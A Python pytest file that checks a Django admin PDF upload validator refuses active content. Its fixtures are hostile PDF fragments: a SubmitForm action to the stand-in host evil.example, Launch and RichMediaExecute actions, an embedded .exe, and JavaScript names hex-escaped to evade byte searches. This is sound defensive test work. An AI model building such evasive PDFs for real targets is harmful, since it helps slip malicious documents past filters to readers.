"""PDFs are judged as pypdf reads them, not by their bytes: the ways past a byte search
that were seen (escaped names, compressed object streams) are refused too."""

from __future__ import annotations

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from media_library.models import Document

from .pdfs import BYPASSES, OPEN_ACTION, handmade_pdf, one_page, ordinary_pdf

pytestmark = pytest.mark.django_db

ADD_URL = reverse("admin:media_library_document_add")
REFUSED = "contains scripts, launch actions, forms that send data"


def upload(client, data: bytes):
    file = SimpleUploadedFile("report.pdf", data, content_type="application/pdf")
    return client.post(ADD_URL, {"title": "Annual report", "language": "en", "file": file})


def errors_of(response) -> str:
    return " ".join(str(e) for e in response.context["adminform"].form.errors.values())


@pytest.mark.parametrize("name", BYPASSES)
def test_actions_hidden_from_a_byte_search_are_refused(admin_client, name):
    response = upload(admin_client, BYPASSES[name])
    assert response.status_code == 200
    assert REFUSED in errors_of(response)
    assert not Document.objects.exists()


ANNOTATION = b"/Annots [6 0 R]"
OTHER_ACTIVE_CONTENT = {
    "submit-form": [*one_page(OPEN_ACTION), b"<< /S /SubmitForm /F (https://evil.example/) >>"],
    "import-data": [*one_page(OPEN_ACTION), b"<< /S /ImportData /F (data.fdf) >>"],
    "go-to-embedded": [*one_page(OPEN_ACTION), b"<< /S /GoToE /T << /R /C /N (x) >> >>"],
    "javascript-after-a-link": [
        *one_page(OPEN_ACTION),
        b"<< /S /URI /URI (https://a.example/) /Next 7 0 R >>",
        b"<< /S /Ja#76aScript /J#53 (app.alert(1)) >>",
    ],
    "javascript-name-tree": [
        *one_page(b"/Names << /J#61vaScript 6 0 R >>"),
        b"<< /Names [(a) 7 0 R] >>",
        b"<< /S /URI /URI (https://a.example/) >>",
    ],
    "xfa-form": [
        *one_page(b"/AcroForm << /Fields [] /X#46A 6 0 R >>"),
        b"<< /Length 0 >>\nstream\n\nendstream",
    ],
    "rich-media-annotation": [
        *one_page(page=ANNOTATION),
        b"<< /Type /Annot /Subtype /Rich#4dedia /Rect [0 0 10 10] >>",
    ],
    "rich-media-execute": [
        *one_page(page=ANNOTATION),
        b"<< /Subtype /Link /Rect [0 0 10 10] /A << /S /RichMediaExecute >> >>",
    ],
    "file-attachment": [
        *one_page(page=ANNOTATION),
        b"<< /Subtype /FileAttachment /Rect [0 0 10 10] /FS 7 0 R >>",
        b"<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>",
        b"<< /Length 2 >>\nstream\nMZ\nendstream",
    ],
    "action-name-given-by-reference": [*one_page(OPEN_ACTION), b"<< /S 7 0 R >>", b"/Launch"],
}


@pytest.mark.parametrize("name", OTHER_ACTIVE_CONTENT)
def test_other_active_content_is_refused(admin_client, name):
    assert REFUSED in errors_of(upload(admin_client, handmade_pdf(OTHER_ACTIVE_CONTENT[name])))
    assert not Document.objects.exists()


def test_an_ordinary_pdf_with_text_and_a_web_link_is_accepted(admin_client):
    assert upload(admin_client, ordinary_pdf()).status_code == 302
    assert Document.objects.get().pages == 1


@pytest.mark.parametrize(
    "objects",
    [
        [*one_page(OPEN_ACTION), b"[" * 5000 + b"]" * 5000],
        [*one_page(OPEN_ACTION), b"<< /Next 7 0 R >>", b"<< /Next 6 0 R /Parent 1 0 R >>"],
        [*one_page(OPEN_ACTION), b"<< /S 99 0 R /URI 98 0 R >>"],
    ],
    ids=["deeply-nested", "a-cycle-of-references", "a-reference-to-nothing"],
)
def test_hostile_structures_are_answered_without_a_server_error(admin_client, objects):
    response = upload(admin_client, handmade_pdf(objects))
    assert response.status_code in (200, 302)
    if response.status_code == 200:
        assert "not a PDF" in errors_of(response) or REFUSED in errors_of(response)
